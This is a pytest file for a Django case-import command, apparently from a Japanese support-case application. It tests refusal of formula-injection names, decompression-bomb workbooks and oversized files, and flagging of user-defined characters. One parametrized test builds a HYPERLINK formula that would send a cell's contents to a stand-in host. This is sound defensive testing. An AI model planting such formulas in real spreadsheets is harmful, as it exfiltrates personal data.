"""Files that would hurt: formulas in names, characters other computers show differently, and
workbooks or sheets too large to read — each refused or named with a clear message."""

import pytest
from django.core.management import CommandError, call_command
from openpyxl import Workbook, load_workbook

from yorisoi.cases.models import Case
from yorisoi.core import importing
from yorisoi.core.roles import Role
from yorisoi.core.testing.ledgers import write_csv, write_xlsx

HEADERS = ["ケース番号", "受付日", "氏名", "最初の相談者"]


@pytest.fixture
def staff(org, make_member):
    return make_member(org, Role.CASEWORKER, user__full_name="相談 花子")


def refused(path, org):
    with pytest.raises(CommandError) as error:
        call_command("import", "cases", str(path), "--org", org.slug)
    return str(error.value)


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝"])
@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_a_name_that_a_spreadsheet_would_run_as_a_formula_is_refused(tmp_path, org, sign, kind):
    name = f'{sign}HYPERLINK("http://example.invalid/?"&A2,"詳細")'
    if kind == "csv":
        path = write_csv(
            tmp_path / "l.csv", HEADERS, [["K-1", "2024/4/1", name.replace(",", "、"), "母"]]
        )
    else:
        path = write_xlsx(tmp_path / "l.xlsx", HEADERS, [["K-1", "2024/4/1", name, "母"]])
        book = load_workbook(path)
        cell = book.active["C2"]
        cell.value, cell.data_type = name, "s"  # text in the cell, as a clerk typed it
        book.save(path)
    report = refused(path, org)
    assert "2行目「氏名」" in report
    assert "数式" in report
    assert Case.objects.count() == 0


def test_characters_outside_the_standard_set_are_imported_and_named(tmp_path, org, capsys):
    # 0xF040 is the first user-defined character (外字) of cp932: U+E000 once decoded.
    path = tmp_path / "l.csv"
    path.write_bytes(
        "ケース番号,受付日,氏名,最初の相談者\r\nK-1,2024/4/1,寄添 ".encode("cp932")
        + b"\xf0\x40"
        + "郎,母\r\nK-2,2024/4/2,寄添 花,母\r\n".encode("cp932")
    )
    call_command("import", "cases", str(path), "--org", org.slug)
    out = capsys.readouterr().out
    assert "2行目「氏名」" in out
    assert "3行目" not in out
    assert Case.objects.count() == 2


def test_a_workbook_that_unpacks_beyond_the_limit_is_refused_before_reading(
    tmp_path, org, monkeypatch
):
    monkeypatch.setattr(importing, "MAX_UNPACKED_BYTES", 200_000)
    rows = [[f"K-{i}", "2024/4/1", "寄添 " + "あ" * 50, "母"] for i in range(2_000)]
    path = write_xlsx(tmp_path / "bomb.xlsx", HEADERS, rows)
    assert path.stat().st_size < 200_000  # small on disk, large unpacked
    report = refused(path, org)
    assert "MB" in report
    assert Case.objects.count() == 0


def test_too_many_rows_are_refused_with_the_limit(tmp_path, org, monkeypatch):
    monkeypatch.setattr(importing, "MAX_ROWS", 10)
    rows = [[f"K-{i}", "2024/4/1", "寄添", "母"] for i in range(11)]
    for path in (
        write_xlsx(tmp_path / "l.xlsx", HEADERS, rows),
        write_csv(tmp_path / "l.csv", HEADERS, rows),
    ):
        assert "10" in refused(path, org)
    assert Case.objects.count() == 0


def test_formatting_that_stretches_a_sheet_is_not_counted_as_columns(tmp_path, org, staff):
    book = Workbook()
    sheet = book.active
    sheet.append(HEADERS)
    sheet.append(["K-1", "2024/4/1", "寄添 花", "母"])
    sheet.cell(row=2, column=importing.MAX_COLUMNS + 50).value = None
    sheet.cell(row=1, column=importing.MAX_COLUMNS + 50).number_format = "@"
    path = tmp_path / "wide.xlsx"
    book.save(path)
    call_command("import", "cases", str(path), "--org", org.slug)
    assert Case.objects.count() == 1
